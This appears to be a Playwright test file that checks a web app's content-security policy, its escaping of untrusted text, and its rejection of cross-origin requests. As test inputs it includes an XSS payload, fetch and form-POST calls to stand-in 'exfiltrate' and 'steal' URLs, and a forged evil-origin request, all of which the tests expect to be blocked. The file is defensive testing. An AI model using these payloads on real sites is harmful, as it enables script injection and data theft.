import { expect, openAs, test } from './fixtures';

test('the page has no Node, a strict CSP header, and refuses inline and foreign scripts', async ({ page, room }) => {
  const response = await page.goto(room.url);
  const csp = response!.headers()['content-security-policy'];
  expect(csp).toContain("default-src 'self'");
  expect(csp).toContain("script-src 'self'");
  expect(csp).toContain("connect-src 'self'");
  expect(csp).toContain("frame-ancestors 'none'");

  const globals = await page.evaluate(() => ({
    require: typeof (window as unknown as { require?: unknown }).require,
    process: typeof (window as unknown as { process?: unknown }).process,
    module: typeof (window as unknown as { module?: unknown }).module,
  }));
  expect(globals).toEqual({ require: 'undefined', process: 'undefined', module: 'undefined' });

  const inlineRan = await page.evaluate(async () => {
    const s = document.createElement('script');
    s.textContent = 'window.__pwned = true';
    document.body.appendChild(s);
    await new Promise((r) => setTimeout(r, 100));
    return (window as unknown as { __pwned?: boolean }).__pwned === true;
  });
  expect(inlineRan).toBe(false);

  const externalFetch = await page.evaluate(() =>
    fetch('https://example.org/exfiltrate').then(
      () => 'sent',
      () => 'blocked',
    ),
  );
  expect(externalFetch).toBe('blocked');
});

test('untrusted text is shown as text, never as markup', async ({ page, room }) => {
  const payload = '<img src=x onerror="window.__xss=1"><script>window.__xss=2</script>';
  const incident = await room.api<{ id: string }>('incidents.create', { title: payload, description: payload });
  await openAs(page, room);
  await page.goto(`${room.url}#/incidents/${incident.id}`);
  await expect(page.getByTestId('incident-title')).toHaveText(payload);
  expect(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss)).toBeUndefined();
  expect(await page.locator('img[src="x"]').count()).toBe(0);
});

test('navigation away from the app is blocked', async ({ page, room }) => {
  await openAs(page, room);
  // A form posting elsewhere (form-action 'none') and a frame of a foreign page (default-src 'self') both fail.
  const blocked: string[] = [];
  page.on('console', (m) => {
    if (/Content Security Policy/.test(m.text())) blocked.push(m.text());
  });
  await page.evaluate(() => {
    const form = document.createElement('form');
    form.action = 'https://example.org/steal';
    form.method = 'POST';
    document.body.appendChild(form);
    form.submit();
    const frame = document.createElement('iframe');
    frame.src = 'https://example.org/';
    document.body.appendChild(frame);
  });
  await expect.poll(() => blocked.length).toBeGreaterThanOrEqual(2);
  expect(new URL(page.url()).origin).toBe(new URL(room.url).origin);
});

test('a cross-site page cannot drive the room server', async ({ page, room }) => {
  const res = await page.request.post(`${room.url}api/incidents.create`, {
    headers: { Origin: 'https://evil.example', 'Content-Type': 'application/json' },
    data: { title: 'forged' },
  });
  expect(res.status()).toBe(403);
  expect(await room.api<unknown[]>('incidents.list', {})).toHaveLength(0);
});
